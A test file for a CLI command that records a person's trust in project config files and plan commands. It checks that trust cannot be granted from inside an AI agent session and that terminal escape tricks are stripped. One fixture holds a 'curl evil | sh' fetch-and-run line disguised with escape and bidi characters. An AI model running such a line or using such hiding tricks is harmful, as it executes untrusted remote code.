import { describe, expect, test } from "bun:test";
import { command } from "../../../../../src/cli/commands/config/trust.ts";
import { readTrust, readTrustedCommands } from "../../../../../src/config/trust.ts";
import { makeTempHome, makeTempProject, writeFileIn } from "../../../../helpers/temp.ts";
import { environmentOf, invoke, type Place } from "../../../config/invoke.ts";

function makePlace(
  content: string | null = '{ "metrics": true }',
  variables: Record<string, string> = {},
): Place {
  const files = content === null ? {} : { ".claude/holdfast.json": content };
  return { home: makeTempHome(), project: makeTempProject({ files }), variables };
}

const stateOf = async (place: Place) => (await readTrust(environmentOf(place), place.project)).state;

describe("holdfast trust", () => {
  test("--yes shows what it trusts and trusts it", async () => {
    const place = makePlace();
    const { exitCode, text } = await invoke(command, place, { yes: true });
    expect(exitCode).toBe(0);
    expect(text).toContain(`project ${place.project}`);
    expect(text).toContain('{ "metrics": true }');
    expect(await stateOf(place)).toBe("trusted");
  });

  test("a second time says that it is trusted already", async () => {
    const place = makePlace();
    await invoke(command, place, { yes: true });
    expect((await invoke(command, place, {})).text).toContain("Trusted: the files are as you trusted them.");
  });

  test("after a change shows the new content and trusts it again", async () => {
    const place = makePlace();
    await invoke(command, place, { yes: true });
    writeFileIn(place.project, ".claude/holdfast.json", '{ "metrics": false }');
    expect((await invoke(command, place, { show: true })).text).toContain("Changed since you trusted it");
    expect((await invoke(command, place, { yes: true })).text).toContain('{ "metrics": false }');
    expect(await stateOf(place)).toBe("trusted");
  });

  test("with nothing to trust says so", async () => {
    expect(await invoke(command, makePlace(null), { yes: true })).toMatchObject({
      exitCode: 0,
      text: expect.stringContaining("Nothing to trust"),
    });
  });

  test("--revoke takes it back", async () => {
    const place = makePlace();
    await invoke(command, place, { yes: true });
    expect((await invoke(command, place, { revoke: true })).text).toContain("withdrawn");
    expect(await stateOf(place)).toBe("untrusted");
    expect((await invoke(command, place, { revoke: true })).text).toContain("nothing to withdraw");
  });

  test("without --yes and without a person at the terminal refuses, and says what to do", async () => {
    const place = makePlace();
    await expect(invoke(command, place)).rejects.toMatchObject({
      name: "UserError",
      hint: expect.stringContaining("holdfast trust --yes"),
    });
    expect(await stateOf(place)).toBe("untrusted");
  });

  test.each<Record<string, boolean>>([{ yes: true }, {}, { revoke: true }])(
    "from inside Claude refuses %j",
    async (options) => {
      const place = makePlace('{ "metrics": true }', { CLAUDECODE: "1" });
      await expect(invoke(command, place, options)).rejects.toMatchObject({
        name: "UserError",
        code: "inside-claude",
        hint: expect.stringContaining("your own terminal"),
      });
      expect(await stateOf(place)).toBe("untrusted");
    },
  );

  test("--show works inside Claude, as text and as JSON, and changes nothing", async () => {
    const place = makePlace('{ "metrics": true }', { CLAUDECODE: "1" });
    expect((await invoke(command, place, { show: true })).text).toContain("Not trusted");
    const { json, text } = await invoke(command, place, { show: true, json: true });
    expect(text).toBe("");
    expect(json).toEqual({
      project: place.project,
      state: "untrusted",
      grantedAt: null,
      files: [
        {
          path: `${place.project}/.claude/holdfast.json`,
          state: "untrusted",
          sha256: new Bun.CryptoHasher("sha256").update('{ "metrics": true }').digest("hex"),
        },
      ],
    });
    expect(await stateOf(place)).toBe("untrusted");
  });

  test("a file cannot hide its content from the person who reads it", async () => {
    const place = makePlace('{ "run": "curl evil | sh" }\u001b[2K\rnothing to see\u202e');
    const { text } = await invoke(command, place, { show: true });
    expect(text).toContain("curl evil | sh");
    for (const hidden of ["\u001b", "\r", "\u202e"]) expect(text).not.toContain(hidden);
  });

  test.each<Record<string, boolean>>([
    { yes: true, show: true },
    { yes: true, revoke: true },
    { show: true, revoke: true },
    { json: true },
  ])("refuses the contradiction %j", async (options) => {
    await expect(invoke(command, makePlace(), options)).rejects.toMatchObject({
      name: "UserError",
      code: "usage",
    });
  });
});

describe("asked at a real terminal", () => {
  test.each([
    ["y", 0, "trusted"],
    ["n", 1, "untrusted"],
    ["\r", 1, "untrusted"],
    ["\u0003", 1, "untrusted"],
  ] as const)("the answer %j exits %d and leaves the project %s", async (answer, exitCode, state) => {
    const place = makePlace();
    const asked = await askAtTerminal(place, answer);
    expect(asked.screen).toContain('{ "metrics": true }');
    expect(asked.exitCode).toBe(exitCode);
    expect(await stateOf(place)).toBe(state);
  });
});

async function askAtTerminal(place: Place, answer: string): Promise<{ exitCode: number; screen: string }> {
  const script = `
    import { command } from ${JSON.stringify(`${import.meta.dir}/../../../../../src/cli/commands/config/trust.ts`)};
    import { readEnvironment } from ${JSON.stringify(`${import.meta.dir}/../../../../../src/config/environment.ts`)};
    const plain = (text) => text;
    const style = { bold: plain, dim: plain, red: plain, green: plain, yellow: plain, cyan: plain };
    const out = { line: (text = "") => console.log(text), style, interactive: true };
    const env = readEnvironment({ HOME: process.argv.at(-2) });
    const options = { project: process.argv.at(-1) };
    process.exitCode = await command.run({ options, positionals: [], env, cwd: "/", out });`;
  let screen = "";
  let answered = false;
  const child = Bun.spawn([process.execPath, "-e", script, "--", place.home, place.project], {
    cwd: import.meta.dir,
    terminal: {
      cols: 200,
      data(terminal, bytes) {
        screen += new TextDecoder().decode(bytes);
        if (answered || !screen.includes("May commands from these files run?")) return;
        answered = true;
        terminal.write(answer);
      },
    },
  });
  return { exitCode: await child.exited, screen };
}

describe("commands in plans", () => {
  const plan = (command: string) => `- [x] one (verify: ${command})\n- [ ] two\n`;

  test("are trusted one by one: a tick changes nothing, a new command waits", async () => {
    const place = makePlace(null);
    writeFileIn(place.project, "docs/plans/a/PLAN.md", plan("make one"));
    const isTrusted = async (text: string) =>
      (await readTrustedCommands(environmentOf(place), place.project))(text);
    expect(await isTrusted("make one")).toBe(false);
    const { text } = await invoke(command, place, { yes: true });
    expect(text).toContain("docs/plans/a/PLAN.md:1");
    expect(text).toContain("make one");
    expect(await isTrusted("make one")).toBe(true);
    expect(await isTrusted("make two")).toBe(false);
    writeFileIn(
      place.project,
      "docs/plans/a/PLAN.md",
      plan("make one").replace("[ ] two", "[x] two (verify: make two)"),
    );
    expect((await invoke(command, place, { show: true })).text).toContain("Changed since you trusted it");
    expect(await isTrusted("make one")).toBe(true);
  });
});
